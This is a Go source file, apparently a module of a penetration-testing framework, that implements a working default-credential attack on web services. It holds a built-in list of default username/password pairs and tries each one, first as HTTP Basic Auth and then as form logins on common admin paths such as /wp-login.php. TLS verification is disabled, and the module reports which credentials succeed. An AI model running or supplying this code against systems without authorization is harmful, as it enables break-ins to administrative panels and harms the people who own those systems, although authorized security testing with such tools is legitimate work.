package web

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"

	"bytemomo/harpoon/internal/domain"
	"bytemomo/harpoon/internal/exploit"
	"bytemomo/harpoon/internal/modules/dictionary"
)

const ModuleID = "http_default_creds"

var defaultHTTPCreds = []dictionary.Credential{
	dictionary.NewCredential("admin", "admin", true),
	dictionary.NewCredential("admin", "password", true),
	dictionary.NewCredential("admin", "123456", true),
	dictionary.NewCredential("root", "root", true),
	dictionary.NewCredential("administrator", "administrator", true),
	dictionary.NewCredential("admin", "admin123", true),
	dictionary.NewCredential("admin", "", true),
	dictionary.NewCredential("user", "user", true),
}

var (
	loginPaths      = []string{"/", "/login", "/admin", "/admin/login", "/wp-login.php"}
	landingKeywords = []string{"dashboard", "admin", "home", "panel"}
	formCredentials = 4
	tlsPorts        = []uint16{443, 8443}
)

func Init() {
	exploit.Register(exploit.Descriptor{
		ID:       ModuleID,
		Name:     "HTTP Default Credentials",
		Services: []string{"http", "https", "http-proxy", "https-alt"},
		Ports:    []uint16{80, 443, 8080, 8443, 8888},
		Description: `Tries default credentials first as HTTP Basic Auth on the root page, then
as form posts against common login paths.`,
		Run: runDefaultCreds,
	})
}

// BaseURL picks https for the usual TLS ports or when the service name says so.
func BaseURL(target domain.ServiceTarget) string {
	scheme := "http"
	if slices.Contains(tlsPorts, target.Port) || strings.Contains(target.Service, "https") {
		scheme = "https"
	}
	return scheme + "://" + target.HostPort.String()
}

func newClient(res exploit.Resources) *http.Client {
	return &http.Client{
		Timeout: res.ConnectTimeout(),
		Transport: &http.Transport{
			TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		},
		CheckRedirect: func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
}

func runDefaultCreds(ctx context.Context, target domain.ServiceTarget, res exploit.Resources, emit *exploit.Emitter) error {
	creds, err := dictionary.LoadCredentials(res.Params, defaultHTTPCreds)
	if err != nil {
		return err
	}

	base := BaseURL(target)
	emit.Commandf("[>] Testing default credentials on %s", base)

	client := newClient(res)
	defer client.CloseIdleConnections()
	pacer := exploit.NewPacer(res.Config.HTTP.AttemptGap())

	emit.Infof("[*] Phase 1: Testing HTTP Basic Auth")
	for _, cred := range creds {
		if !emit.Outputf("    %s ...", cred) {
			return ctx.Err()
		}
		if err := pacer.Wait(ctx); err != nil {
			return ctx.Err()
		}
		code, err := basicAuth(ctx, client, base, cred)
		if err != nil {
			continue
		}
		if code != http.StatusUnauthorized && code != http.StatusForbidden {
			emit.Successf("[+] Basic Auth SUCCESS: %s (HTTP %d)", cred, code)
			return nil
		}
	}

	emit.Infof("[*] Phase 2: Testing form-based login")
	for _, path := range loginPaths {
		for _, cred := range creds[:min(formCredentials, len(creds))] {
			if !emit.Outputf("    POST %s %s:%s ...", path, cred.Username, cred.Password) {
				return ctx.Err()
			}
			if err := pacer.Wait(ctx); err != nil {
				return ctx.Err()
			}
			loc, ok := formLogin(ctx, client, base+path, cred)
			if ok {
				emit.Successf("[+] Form login SUCCESS: %s:%s -> %s", cred.Username, cred.Password, loc)
				return nil
			}
		}
	}

	if ctx.Err() != nil {
		return ctx.Err()
	}
	emit.Errorf("[-] No default credentials worked")
	return nil
}

func basicAuth(ctx context.Context, client *http.Client, base string, cred dictionary.Credential) (int, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, base, nil)
	if err != nil {
		return 0, fmt.Errorf("build request: %w", err)
	}
	req.SetBasicAuth(cred.Username, cred.Password)
	resp, err := client.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 64<<10))
	return resp.StatusCode, nil
}

// formLogin posts the credential under the common field names and reports
// a redirect towards a landing page.
func formLogin(ctx context.Context, client *http.Client, target string, cred dictionary.Credential) (string, bool) {
	form := url.Values{
		"username": {cred.Username},
		"password": {cred.Password},
		"user":     {cred.Username},
		"pass":     {cred.Password},
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, target, strings.NewReader(form.Encode()))
	if err != nil {
		return "", false
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := client.Do(req)
	if err != nil {
		return "", false
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 64<<10))

	if resp.StatusCode != http.StatusFound && resp.StatusCode != http.StatusSeeOther {
		return "", false
	}
	loc := strings.ToLower(resp.Header.Get("Location"))
	for _, kw := range landingKeywords {
		if strings.Contains(loc, kw) {
			return loc, true
		}
	}
	return "", false
}
